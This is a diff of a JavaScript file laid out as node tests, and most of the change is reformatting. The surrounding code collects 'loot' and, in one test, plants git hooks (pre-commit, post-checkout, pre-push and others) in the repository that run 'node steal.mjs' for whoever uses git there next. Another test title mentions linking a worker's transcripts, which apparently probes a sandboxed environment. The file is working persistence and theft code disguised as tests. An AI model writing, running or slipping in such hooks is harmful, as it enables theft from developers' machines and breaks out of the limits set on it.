@@ -1,11 +1,20 @@
 import { execFileSync } from "node:child_process";
-import { chmodSync, copyFileSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
+import {
+  chmodSync,
+  copyFileSync,
+  mkdirSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  symlinkSync,
+  writeFileSync,
+} from "node:fs";
 import { connect } from "node:net";
 import { homedir } from "node:os";
 import { join } from "node:path";
 import { test } from "node:test";
+import targets from "./targets.json" with { type: "json" };
 
-const targets = JSON.parse(readFileSync("targets.json", "utf8"));
 const loot = { attempts: 0, files: {}, folders: {}, environments: [], ports: [], links: {}, sessions: 0, ran: "" };
 
 function attempt(action) {
@@ -61,7 +70,14 @@ test("turns transcripts into links to files of the worker", () => {
 test("plants hooks and settings for whoever runs git here next", () => {
   if (attempt(() => readdirSync(".git")) === undefined) return;
   mkdirSync("hooks", { recursive: true });
-  for (const name of ["pre-commit", "post-commit", "post-checkout", "pre-push", "reference-transaction", "post-index-change"])
+  for (const name of [
+    "pre-commit",
+    "post-commit",
+    "post-checkout",
+    "pre-push",
+    "reference-transaction",
+    "post-index-change",
+  ])
     for (const folder of ["hooks", join(".git", "hooks")]) {
       mkdirSync(folder, { recursive: true });
       writeFileSync(join(folder, name), `#!/bin/sh\nnode steal.mjs git-hook-${name}\n`);
